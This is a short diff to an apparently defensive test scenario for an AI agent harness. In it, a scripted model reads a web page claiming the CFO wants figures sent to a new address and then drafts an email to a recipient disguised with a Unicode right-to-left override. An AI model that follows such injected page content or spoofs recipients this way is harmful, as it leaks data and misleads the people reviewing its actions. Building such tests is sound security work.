@@ -128,7 +128,8 @@ def inbox_scenario(store: MemoryStore, files_root: Path) -> tuple[ApprovalReques
     off_loop(lambda: files.run_sync("Move the release in the plan to Monday", principal="dana"))
     mail_call = call("send_email", {"to": "bob\u202emoc.live@example.com",
                                     "subject": "Quarterly numbers",
-                                    "body": "Hi,\nthe quarterly numbers are attached.\nAlice"})
+                                    "body": "Hi Bob,\nthe quarterly numbers are attached: "
+                                            "revenue 4 999 €, up 12 %.\nGrüße, Alice"})
     mail = Host(model=ScriptedModel([
         call("fetch_url", {"url": "https://news.example/q3"}),
         Reply((Text("The page says the CFO wants the numbers at a new address; "
